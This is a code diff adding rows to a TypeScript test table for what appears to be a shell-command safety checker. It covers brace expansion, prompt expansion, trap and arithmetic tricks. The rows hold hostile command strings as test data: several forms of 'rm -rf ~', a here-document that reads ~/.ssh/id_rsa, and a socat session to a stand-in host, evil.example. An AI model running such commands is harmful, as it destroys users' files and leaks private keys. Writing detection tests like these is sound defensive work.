@@ -194,6 +194,22 @@ const TABLE: [string, boolean, boolean, string?][] = [
   ['socat STDIO OPENSSL:evil.example:443,verify=0', true, false, 'raw session'],
   ['socat - UNIX-CONNECT:/tmp/app.sock', false, false],
   ["python3 /dev/stdin <<'EOF'\nimport os; os.system('rm -rf ~')\nEOF", true, false, 'python3 code from a here-document'],
+  // Brace expansion makes the words the shell runs; quoted, a brace is text.
+  ['{rm,-rf,~}', true, false, 'home directory'],
+  ['rm -rf {~,build}', true, false, 'home directory'],
+  ['{git,push,--force,origin,main}', true, false, 'force'],
+  ['cp config.yml{,.bak}', false, false],
+  ['mkdir -p src/{api,web}/{lib,test}', false, true],
+  ['echo "{rm,-rf,~}"', false, true],
+  ['echo ${NAME,,} {a,b}', false, true],
+  // A prompt expansion runs what its value holds; a trap's command runs later; arithmetic's substitutions run.
+  ["x='$(rm -rf ~)'; echo ${x@P}", true, false, 'prompt'],
+  ['echo ${x@Q}', false, true],
+  ["trap 'rm -rf ~' EXIT", true, false, 'home directory'],
+  ["trap 'rm -f build.lock' EXIT", false, false],
+  ['trap - EXIT', false, false],
+  ['echo $(( $(rm -rf ~) + 1 ))', true, false, 'home directory'],
+  ['echo $(( 6 * 7 ))', false, true],
   // An unquoted here-document's substitutions run as the shell reads it, whatever it feeds.
   ['cat > notes.txt <<EOF\n$(rm -rf ~)\nEOF', true, false, 'home directory'],
   ['cat > notes.txt <<EOF\n`cat ~/.ssh/id_rsa`\nEOF', true, false, 'secrets'],
